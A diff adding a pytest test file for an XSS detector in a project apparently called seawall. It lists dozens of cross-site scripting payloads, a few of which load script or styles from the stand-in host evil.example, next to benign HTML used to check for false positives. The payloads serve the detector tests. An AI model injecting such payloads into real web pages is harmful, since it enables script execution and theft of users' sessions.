@@ -1,0 +1,147 @@
+import pytest
+from asking import asking
+from attack_mutations import markup_mutated
+from lookalikes import AMBIGUOUS, PLAIN, generated
+
+from seawall.systems.threats.detectors.xss import DETECTOR
+from seawall.systems.threats.inspection.decoding import views
+
+ask = asking(DETECTOR)
+
+ATTACKS = (
+    "<svg onload=alert(1)>",
+    "<img src=x onerror=alert(1)>",
+    "<script>alert(1)</script>",
+    '<a href="javascript:alert(1)">x</a>',
+    "<iframe src=javascript:alert(1)>",
+    "<body onpageshow=alert(1)>",
+    "<details open ontoggle=confirm(1)>",
+    "javascript:alert(document.domain)",
+    '<object data="javascript:alert(1)">',
+    '<form action="javascript:alert(1)"><input type=submit></form>',
+    "<input autofocus onfocus=alert(1)>",
+    "<script src=//evil.example/x.js></script>",
+    "<svg/onload=alert`1`>",
+    "<img/src/onerror=alert(1)>",
+    "<svg onload\r\n=\r\nalert(1)>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<<script>alert(1);//<</script>",
+    '<img """><script>alert(1)</script>">',
+    "< script >alert(1)</ script >",
+    '<a href="java\tscript:alert(1)">x',
+    '<a href="jav&#x0A;ascript:alert(1)">x',
+    '<a href="&#106;avascript:alert(1)">x',
+    "<iframe srcdoc='&lt;script>alert(1)&lt;/script>'>",
+    "<style>@import'http://evil.example/x.css';</style>",
+    '<div style="width:expression(alert(1))">',
+    '<div style="width:exp/**/ression(alert(1))">',
+    '<div style="background:url(javascript:alert(1))">',
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<link rel=import href=//evil.example/>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    '<math><mi xlink:href="data:text/html,<script>alert(1)</script>">',
+    "<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
+    "<x onclick=alert(1)>",
+    '<table background="javascript:alert(1)">',
+    '" onmouseover="alert(1)',
+    "' onfocus=alert(1) autofocus '",
+    "';alert(1)//",
+    "\\';alert(1)//",
+    '"-alert(1)-"',
+    "${alert(1)}",
+    "</script><script>alert(1)</script>",
+    '"><img src=x>',
+    "data:text/html,<script>alert(1)</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "alert(1)",
+    "alert(document.cookie)",
+    "eval(String.fromCharCode(97,108))",
+    "window['alert'](1)",
+    "top['al'+'ert'](1)",
+    "location='javascript:alert(1)'",
+    "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
+    "{{constructor.constructor('alert(1)')()}}",
+    "+ADw-script+AD4-alert(1)",
+    "onerror=alert;throw 1",
+    "&{alert('x')}",
+)
+WRITTEN_OTHERWISE = ATTACKS[:12]
+HONEST = (
+    "<b>bold</b>",
+    "<p style=\"color:red\" class='x'>hi</p>",
+    '<a href="https://example.com/a?b=c">x</a>',
+    '<img src="https://example.com/a.png" alt="a" width=10>',
+    "<ul><li>a</li><li>b</li></ul>",
+    "<table border=1><tr><td>1</td></tr></table>",
+    '<iframe width="560" src="https://www.youtube.com/embed/abc"></iframe>',
+    "if (a < b && c > d) { return }",
+    "function(){ return window.location.href }",
+    "I used document.getElementById('x') and got null",
+    "TypeError: Cannot read properties of undefined (reading 'x') at eval (webpack:///./src/x.js)",
+    "ReferenceError: alert is not defined",
+    "confirm (yes/no)",
+    "online=true&only=1",
+    "JavaScript: The Good Parts",
+    "javascript:void(0)",
+    "List<String> x = new ArrayList<>();",
+    "<email@example.com>",
+    "data:image/png;base64,iVBORw0KGgo=",
+    "<style>.a{color:red}</style>",
+    '<svg viewBox="0 0 24 24"><path d="M0 0h24v24H0z"/></svg>',
+    "3 < 5 and 7 > 2",
+    "a@import-export.example",
+)
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+def test_attacks_are_found(text):
+    assert ask(text)[1] >= 0.85
+
+
+@pytest.mark.parametrize("text", HONEST)
+def test_what_only_looks_like_one_is_let_through(text):
+    assert ask(text)[1] < 0.5
+
+
+@pytest.mark.parametrize("attack", WRITTEN_OTHERWISE)
+def test_attacks_written_otherwise_are_found_in_some_view(attack):
+    missed = []
+    for seed in range(80):
+        text = markup_mutated(attack, seed)
+        if max(ask(view)[1] for view, _ in views(text)) < 0.75 and text != attack:
+            missed.append(text)
+    assert missed == []
+
+
+@pytest.mark.parametrize(
+    ("text", "rule"),
+    [
+        ("<script>alert(1)</script>", "xss-script"),
+        ("<x onclick=alert(1)>", "xss-event-handler"),
+        ("<a href=javascript:alert(1)>", "xss-url"),
+        ("<base href=//e.example/>", "xss-element"),
+        ("<p style='x:expression(1)'>", "xss-style"),
+        ('" onfocus="alert(1)', "xss-attribute-break"),
+        ("';alert(1)//", "xss-code"),
+        ("</title><b>", "xss-element-break"),
+        ("+ADw-b+AD4-", "xss-charset"),
+    ],
+)
+def test_each_kind_of_attack_has_a_rule(text, rule):
+    assert ask(text)[0] == rule
+
+
+@pytest.mark.parametrize("text", PLAIN)
+def test_honest_values_are_not_even_ambiguous(text):
+    assert ask(text)[1] < 0.5
+
+
+@pytest.mark.parametrize("text", AMBIGUOUS)
+def test_pasted_statements_stay_below_sure(text):
+    assert ask(text)[1] < 0.9
+
+
+def test_generated_honest_values_are_not_suspected():
+    suspected = [text for text in generated(1500, seed=4) if ask(text)[1] >= 0.7]
+    assert suspected == []
